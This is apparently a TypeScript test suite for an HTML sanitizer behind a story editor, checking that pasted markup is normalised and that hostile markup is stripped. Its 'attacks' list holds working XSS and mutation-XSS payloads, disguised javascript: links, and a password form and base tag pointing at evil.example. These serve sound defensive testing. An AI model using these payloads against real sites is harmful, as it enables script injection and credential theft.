import assert from 'node:assert/strict';
import { test } from 'node:test';
import { blockTexts, cleanHtml, htmlToText } from './html-cleaner.ts';

const clean = (html: string) => cleanHtml(html).html;

// Spec 5: Images by URL; headings 2 and 3; alignments
// Interface, Stories: A chapter’s content is cleaned to what the editor makes
// Interface, Stories: Alignment is kept as a class
// Interface, Stories: Links get rel="nofollow ugc noopener noreferrer"
// Interface, Stories: Images are https only, lazy, and send no referrer
test('HTML of the editor is left unchanged', () => {
  const written = [
    '<p>A <strong>bold</strong> and an <em>italic</em> word,<br>and <code>code</code>.</p>',
    '<h2>Part</h2>',
    '<h3 class="align-center">Section</h3>',
    '<ul><li>one</li><li>two</li></ul>',
    '<ol><li><p>first</p><p>still first</p></li></ol>',
    '<blockquote><p>quoted</p></blockquote>',
    '<pre><code>  two spaces\n&lt;tag></code></pre>',
    '<hr>',
    '<p class="align-right"><a href="https://example.org/a?b=1&amp;c=2" rel="nofollow ugc noopener noreferrer">link</a></p>',
    '<p><img src="https://example.org/cat.png" alt="A cat" loading="lazy" referrerpolicy="no-referrer"></p>',
    '<p></p>',
  ].join('\n');
  assert.equal(clean(written), written);
});

// Interface, Stories: A chapter’s content is cleaned to what the editor makes
// Interface, Stories: Alignment is kept as a class
test('other ways to say the same become the editor’s way', () => {
  const table: [string, string][] = [
    ['<b>b</b><i>i</i>', '<p><strong>b</strong><em>i</em></p>'],
    ['<h1>t</h1><h5>u</h5>', '<h2>t</h2>\n<h3>u</h3>'],
    ['<p style="color:red; text-align: CENTER">x</p>', '<p class="align-center">x</p>'],
    ['<p style="text-align:expression(alert(1))">x</p>', '<p>x</p>'],
    ['<div>one</div><div>two</div>', '<p>one</p>\n<p>two</p>'],
    ['plain <b>text</b><p>and more</p>', '<p>plain <strong>text</strong></p>\n<p>and more</p>'],
    ['<b style="font-weight:normal"><p>pasted</p><p>twice</p></b>', '<p>pasted</p>\n<p>twice</p>'],
    ['<li>stray</li>', '<ul><li>stray</li></ul>'],
    ['<ul>x<li>a<li><p>b</ul>', '<ul><li><p>x</p></li><li>a</li><li><p>b</p></li></ul>'],
    ['<table><tr><td>cell</td><td>next</td></tr></table>', '<p>cell</p>\n<p>next</p>'],
  ];
  for (const [from, to] of table) assert.equal(clean(from), to, from);
});

// Spec 5: Link schemes
test('links keep only the schemes of the specification, whatever their disguise', () => {
  const allowedUrls = [
    'https://a.example/',
    'http://a.example/',
    'ftp://a.example/',
    'mailto:a@b.example',
    'tel:123',
    'sms:1',
    '/tags?q=1',
    '#part',
  ];
  for (const href of allowedUrls) assert.match(clean(`<a href="${href}">x</a>`), /<a href="/, href);
  const refused = [
    'javascript:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'JaVaScRiPt:alert(1)',
    '&#106;avascript:alert(1)',
    'vbscript:x',
    'data:text/html,x',
    'blob:https://a/b',
    'file:///etc/passwd',
    'view-source:https://a',
    'javascript&colon;alert(1)',
    '\u0001javascript:alert(1)',
    'x-foo:bar',
    '',
  ];
  for (const href of refused) assert.equal(clean(`<a href="${href}">x</a>`), '<p>x</p>', href);
});

test('a footnote from a word processor keeps its number and its text, and leads nowhere', () => {
  const anchors = [
    '#_ftn1',
    '#_ftnref1',
    '#_edn12',
    '#_ednref12',
    '#_msocom_1',
    '#_Toc123456',
    '#sdfootnote1sym',
    '#sdfootnote1anc',
    '#sdendnote2anc',
    '#ftnt1',
    '#ftnt_ref1',
    '#cmnt_ref3',
    // The form in which an older cleaner stored it.
    '/#_ftn1',
  ];
  for (const href of anchors)
    assert.equal(
      clean(`<p>late<a href="${href}" name="_x"><sup>[1]</sup></a>.</p>`),
      '<p>late[1].</p>',
      href,
    );
  for (const href of ['/tags#_ftn1', 'https://a.example/#_ftn1', '#_ftnish'])
    assert.match(clean(`<a href="${href}">x</a>`), /<a href="/, href);
});

// Interface, Stories: Images are https only, lazy, and send no referrer
test('pictures are only taken over https, and what they show stays as text otherwise', () => {
  assert.equal(
    clean('<img src="http://a.example/x.png" alt="A &quot;cat&quot;" onerror="x()">'),
    '<p>A "cat"</p>',
  );
  assert.equal(clean('<img src="https://me:pw@a.example/x.png">'), '');
  assert.equal(clean('<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="">'), '');
});

const attacks = [
  '<script>alert(1)</script>text',
  '<svg><script>alert(1)</script></svg>text',
  '<svg/onload=alert(1)>text',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">text',
  '<p onclick="alert(1)" id="x" class="navbar" name="y">text</p>',
  '<img src=x onerror=alert(1)>text',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>text',
  '<style>*{display:none}</style>text',
  '<form action="https://evil.example"><input name=password><button formaction=x>text</button></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">text',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">text',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">text',
  '<template><script>alert(1)</script></template>text',
  '<a href="https://x" target=_blank rel=opener style="position:fixed">text</a>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">text',
  '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0>text',
  '<!--><img src=x onerror=alert(1)>-->text',
  '<p is="x-a" data-x="1" aria-label="x" slot="y" part="z">text</p>',
];

// Interface, Stories: A chapter’s content is cleaned to what the editor makes
test('nothing that could act gets through, and the text stays', () => {
  for (const attack of attacks) {
    const { html, text } = cleanHtml(attack);
    assert.doesNotMatch(
      html,
      /<(?!\/?(?:p|strong|em|h2|h3|ul|ol|li|blockquote|pre|code|br|hr|a|img)\b)/i,
      attack,
    );
    assert.doesNotMatch(
      html,
      /<[^>]*\s(?:on\w+|style|id|name|is|srcdoc|target|title|data-\w+|aria-\w+)=/i,
      attack,
    );
    assert.match(text, /text/, attack);
  }
});

// Interface, Stories: The stored content is the one that is shown
test('cleaning what was cleaned changes nothing', () => {
  const odd = [
    'FOO&#x000D;ZOO',
    '<a href=a>aa<marquee>aa<a href=b>bb</marquee>aa',
    '<ul><li><div><p><li></ul>',
    '<li>un<em>believable</em> things',
    '<img src=https://a.example/ alt="&#13;&quot;<img x>&amp;">',
    'half an emoji: \ud83d',
  ];
  for (const text of [...attacks, ...odd, ...soups(3000)]) {
    const once = cleanHtml(text);
    assert.deepEqual(cleanHtml(once.html), once, text);
  }
});

/** Tags and texts in any order, closed or not; the same ones in every run (Park and Miller, CACM 31, 1988). */
function soups(count: number): string[] {
  const names =
    'p b i a|href=x a|href=javascript:x ul ol li div blockquote h1 h3 pre br hr img|src=https://a|alt=z img|src=q|alt=w table tr td span svg math p|class=align-center p|style=text-align:right select option button form dl dd details font nobr template textarea title style marquee object listing noscript mi desc';
  const tags = names.split(' ').map((name) => name.replaceAll('|', ' '));
  const texts = [
    'x',
    ' ',
    '\n',
    '&amp;',
    '&lt;b&gt;',
    '&nbsp;',
    '&#13;',
    'a b',
    '\u200b',
    '—',
    '"',
    '<!--c-->',
    '<',
  ];
  let state = 2026;
  const below = (limit: number) => {
    state = (state * 48_271) % 2_147_483_647;
    return state % limit;
  };
  const one = (list: string[]) => list[below(list.length)] ?? '';
  const piece = () => [`<${one(tags)}>`, `</${one(tags).split(' ')[0]}>`, one(texts)][below(3)] ?? '';
  return Array.from({ length: count }, () => Array.from({ length: 1 + below(14) }, piece).join(''));
}

test('a text that shows nothing is told from one that shows a picture or a sign', () => {
  const empty = [
    '',
    ' ',
    '<p></p>',
    '<p>&nbsp;</p>',
    '<hr>',
    '<ul><li></ul>',
    '<p>\u200b\u2060\u3164\u2800</p>',
    '<style>x',
  ];
  for (const html of empty) assert.equal(cleanHtml(html).isEmpty, true, html);
  const full = [
    'x',
    '<p>…</p>',
    '<li>夜',
    '😀',
    '<img src="https://a.example/x.png" alt="">',
    '<p>&lt;img </p>',
  ];
  for (const html of full) assert.equal(cleanHtml(html).isEmpty, false, html);
});

test('cleaning adds nothing but the attributes of links', () => {
  const sent = '<p>“Salt &amp; Sons”, 3 &lt; 4, <a href="/x?a=1&amp;b=2">so</a>’</p>';
  const link = ' rel="nofollow ugc noopener noreferrer"';
  assert.equal(clean(sent).length, sent.length + link.length);
});

test('a text nested thousands deep is flattened, not lost, and does not exhaust the stack', () => {
  for (const name of ['blockquote', 'ul><li', 'span', 'em', 'div', 'ol']) {
    const deep = `<${name}>`.repeat(20_000);
    const { html, text } = cleanHtml(`${deep}the last word`);
    assert.match(text, /the last word/, name);
    assert.ok(html.length < 5_000, name);
  }
});

test('the text of a page is what a reader would see of it', () => {
  assert.equal(
    htmlToText('<p>One &amp; two</p><ul><li>three</li><li>four</li></ul><style>no</style>'),
    'One & two\nthree\nfour',
  );
  assert.equal(htmlToText('just text'), 'just text');
});

test('the blocks of a text are those that a page has as elements', () => {
  const { html } = cleanHtml(
    '<h2>One &amp; two</h2><p>a<br>b <em>c</em></p><hr><ul><li>d</li><li>e</li></ul><blockquote><p>f</p></blockquote>',
  );
  assert.deepEqual(blockTexts(html), ['One & two', 'a\nb c', '', 'de', 'f']);
  assert.deepEqual(blockTexts(''), []);
});
